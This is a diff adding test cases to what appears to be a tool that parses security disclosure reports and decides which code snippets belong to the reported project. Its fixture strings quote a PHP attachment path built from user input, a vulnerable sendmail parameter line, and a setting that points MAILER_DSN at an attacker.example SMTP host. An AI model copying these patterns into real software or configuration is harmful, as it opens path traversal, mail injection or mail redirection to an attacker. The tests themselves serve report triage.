@@ -482,3 +482,39 @@ describe("claims that are the reporter's, not the project's", () => {
     expect(claims).toContain('symbol read_frame');
   });
 });
+
+describe('the PHP code and settings of the reporter', () => {
+  it('does not claim a PHP block that works on a variable of the caller as project code', () => {
+    const caller = claimsOf(
+      "# Disclosure\n\nThe page attaches what the visitor chose:\n\n```php\n$mail->addAttachment(__DIR__ . '/docs/' . $_GET['doc']);\n```\n",
+    );
+    expect(brief(caller).filter((claim) => claim.startsWith('snippet'))).toEqual([]);
+    const script = claimsOf(
+      '# Injection\n\nThe code:\n\n```php\n<?php\n$m = new Mailer(true);\n$m->send();\n```\n',
+    );
+    expect(brief(script).filter((claim) => claim.startsWith('snippet'))).toEqual([]);
+  });
+
+  it("still claims a quoted method of the project's, which works on $this", () => {
+    const quoted = claimsOf(
+      '# Injection\n\nThe vulnerable code:\n\n```php\n$params = sprintf("-f%s", $this->Sender);\n$result = @mail($to, $subject, $body, $header, $params);\n```\n',
+    );
+    expect(brief(quoted).filter((claim) => claim.startsWith('snippet'))).toEqual([
+      'snippet $params = sprintf("-f%s", $this->Sender);',
+    ]);
+  });
+
+  it('reads a name the code reads from the environment as an environment variable, wherever named', () => {
+    const claims = claimsOf(
+      "# Redirect\n\nOur application reads:\n\n```php\n$mail = Configurator::mailer(getenv('MAILER_DSN'));\n```\n\nWhoever sets `MAILER_DSN` in the pool file redirects mail.\n",
+    );
+    expect(brief(claims)).toContain('ext symbol MAILER_DSN');
+  });
+
+  it('does not claim a configuration line with an unquoted URL as project code', () => {
+    const claims = claimsOf(
+      '# Redirect\n\nWe added `env[MAILER_DSN] = smtp://user:pass@attacker.example:25` to the pool.\n',
+    );
+    expect(brief(claims).filter((claim) => claim.startsWith('snippet'))).toEqual([]);
+  });
+});
